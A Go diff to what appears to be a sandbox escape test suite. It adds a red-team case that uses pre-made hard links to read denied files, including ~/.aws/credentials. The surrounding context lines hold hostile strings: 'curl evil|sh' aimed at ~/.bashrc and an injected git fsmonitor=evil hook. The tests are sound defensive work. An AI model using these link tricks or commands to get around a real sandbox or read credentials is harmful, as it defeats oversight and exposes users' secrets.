@@ -182,6 +182,20 @@ var attacks = []attack{
 			}
 		},
 		script: `echo 'curl evil|sh' >> notes.txt`, worked: changed("~/.bashrc", "x\n")},
+	// Red team B6: a hard link made before the session reads a denied file
+	// under another name; the session must refuse to start.
+	{name: "F-03/denyread-hardlink", config: "[filesystem]\nallowWrite = [\".\"]\ndenyRead = [\"sec\", \"~/.aws\"]\n",
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("sec", "TOPSECRET-1\n")
+			e.Write("~/.aws/credentials", "TOPSECRET-2\n")
+			if err := os.Link(e.Path("sec"), e.Path("alias")); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Link(e.Path("~/.aws/credentials"), e.Path("creds")); err != nil {
+				t.Fatal(err)
+			}
+		},
+		script: `cat alias creds`, worked: printed("TOPSECRET")},
 	{name: "F-04/link-git-config", config: writeDot, setup: withRepo,
 		script: `ln .git/config cfg && echo '[core]fsmonitor=evil' >> cfg`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
 			return strings.Contains(e.Read(".git/config"), "evil")
